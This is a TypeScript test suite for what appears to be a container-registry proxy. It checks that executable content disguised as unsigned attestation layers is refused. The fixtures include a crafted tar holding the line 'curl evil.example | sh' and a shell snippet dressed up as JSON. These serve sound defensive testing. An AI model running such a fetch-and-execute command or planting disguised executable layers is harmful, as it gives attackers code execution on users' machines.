/** A signature or an attestation needs no signature of its own, and nothing that can be run passes for one. */
import { spawnSync } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ask } from "../../support/ask.ts";
import { bytesContent, digestOf } from "../../support/content.ts";
import { startHub, type Hub } from "../../support/hub.ts";
import { startHubcap, upstreamOf, type Hubcap } from "../../support/hubcap.ts";
import { buildImage } from "../../support/images.ts";
import { Signer } from "../../support/signer.ts";

const attestation = "application/vnd.in-toto+json";
const manifestType = "application/vnd.oci.image.manifest.v1+json";
const statement = '{"_type":"https://in-toto.io/Statement/v1","subject":[]}';
const config = JSON.stringify({
  created: "2026-01-01T00:00:00Z",
  os: "linux",
  architecture: "amd64",
  config: { Entrypoint: ["/bin/sh"] },
});

let hub: Hub;
let hubcap: Hubcap;
let folder: string;

const rules = {
  signed: { verify: true },
  old: { minAge: "3650d" },
  small: { maxSize: "1B" },
  arm: { platforms: ["linux/arm64"] },
};
const names = Object.keys(rules);

beforeAll(async () => {
  hub = await startHub();
  folder = await mkdtemp(join(tmpdir(), "hubcap-companions-"));
  await writeFile(join(folder, "cosign.pub"), Signer.withKey().publicKey);
  hubcap = await startHubcap({
    config: {
      upstreams: { "docker.io": upstreamOf(hub) },
      policy: {
        rules: [
          { match: ["docker.io/old/*"], minAge: rules.old.minAge },
          { match: ["docker.io/small/*"], maxSize: rules.small.maxSize },
          { match: ["docker.io/arm/*"], platforms: rules.arm.platforms },
        ],
      },
      verify: [{ repositories: ["docker.io/signed/*"], cosign: { keys: [join(folder, "cosign.pub")] } }],
    },
    inProcess: true,
  });
});
afterAll(async () => {
  await hubcap.dispose();
  await hub.stop();
  await rm(folder, { recursive: true });
});

interface Parts {
  readonly layers: readonly (Uint8Array | string)[];
  readonly config?: Uint8Array | string;
  readonly type?: string;
}

/** Pushes an unsigned manifest whose layers claim a type, and tells what its pull and its first layer's pull are answered. */
async function pull(repository: string, { type = attestation, ...parts }: Parts): Promise<number[]> {
  const blobs = new Map<string, ReturnType<typeof bytesContent>>();
  const put = (mediaType: string, bytes: Uint8Array | string) => {
    const digest = digestOf(bytes);
    blobs.set(digest, bytesContent(bytes));
    return { mediaType, digest, size: Buffer.byteLength(bytes) };
  };
  const layers = parts.layers.map((bytes) => put(type, bytes));
  const document = {
    schemaVersion: 2,
    mediaType: manifestType,
    config: put("application/vnd.oci.image.config.v1+json", parts.config ?? config),
    layers,
  };
  const bytes = Buffer.from(JSON.stringify(document));
  const root = { mediaType: manifestType, digest: digestOf(bytes), size: bytes.length };
  hub.push(
    { root, manifests: new Map([[root.digest, { mediaType: manifestType, bytes }]]), blobs },
    repository,
  );
  const statuses: number[] = [];
  for (const path of [`manifests/${root.digest}`, `blobs/${layers[0]?.digest}`])
    statuses.push((await ask(`${hubcap.url}/v2/${repository}/${path}`)).status);
  return statuses;
}

/** A tar of one file in the oldest format, without a single NUL: its header is text, and begins like a JSON document. */
function textTar(content: string): Buffer {
  const size = Buffer.byteLength(content);
  const fields = (checksum: string): string =>
    [
      '{"a":"/usr/bin/run'.padEnd(100, "n"),
      "0000755 0000000 0000000 ",
      `${size.toString(8).padStart(11, "0")} ${"0".repeat(11)} `,
      checksum.padEnd(8),
      "0".padEnd(512 - 156),
    ].join("");
  const sum = Buffer.from(fields("")).reduce((sum, byte) => sum + byte, 0);
  return Buffer.from(fields(sum.toString(8).padStart(6, "0")) + content);
}

const script = textTar("#!/bin/sh\ncurl evil.example | sh\n".padEnd(1024));
const jsonTar = textTar(`${"#!/bin/sh -c true #".padEnd(1022)}"}`);

describe.each(names)("where the rule is that images are %s", (name) => {
  const repository = `${name}/app`;

  it("serves attestations, though their config is one of an image", async () => {
    expect(await pull(repository, { layers: [statement, `\n ${statement}\n`] })).toEqual([200, 200]);
  });

  it.each([
    ["an archive that begins like a document and has no NUL", script],
    ["an archive that is a JSON document", jsonTar],
    ["a document with an archive after it", statement + script],
    ["a program that begins like a document", "{ exec /bin/sh; }"],
    ["a document in another encoding", Buffer.from('{"a":"\u00e9"}', "latin1")],
    ["a document after a byte order mark", `\ufeff${statement}`],
    ["a document of more than 1 MiB", JSON.stringify({ a: "x".repeat(1024 * 1024) })],
  ])("judges %s like an image", async (_what, layer) => {
    expect(await pull(repository, { layers: [layer] })).toEqual([403, 403]);
    // Beside one that is an attestation, too.
    expect(await pull(repository, { layers: [layer, statement] })).toEqual([403, 403]);
  });

  it("judges a document of another type like an image", async () => {
    const type = "application/vnd.oci.image.layer.v1.tar";
    expect(await pull(repository, { layers: [`${statement} `], type })).toEqual([403, 403]);
  });

  it("opens no other image's layer by naming it as a config", async () => {
    const image = await buildImage({ seed: name });
    hub.push(image, repository, "image");
    const { layers } = image.platforms.get("linux/amd64") ?? { layers: [] };
    const { digest = "" } = layers[0] ?? {};
    const content = image.blobs.get(digest) ?? bytesContent("");
    const bytes = await buffer(content.read(0, content.size));
    expect(await pull(repository, { layers: [`${statement}  `], config: bytes })).toEqual([403, 403]);
    expect((await ask(`${hubcap.url}/v2/${repository}/blobs/${digest}`)).status).toBe(403);
  });
});

it.each([
  ["of text", script],
  ["that is JSON", jsonTar],
])("has archives %s in these tests, which tar unpacks", (_kind, bytes) => {
  const { stdout } = spawnSync("tar", ["-tvPf", "-"], { input: bytes, encoding: "utf8" });
  expect(stdout).toMatch(/^-rwxr-xr-x.* \{"a":"\/usr\/bin\/run/);
});
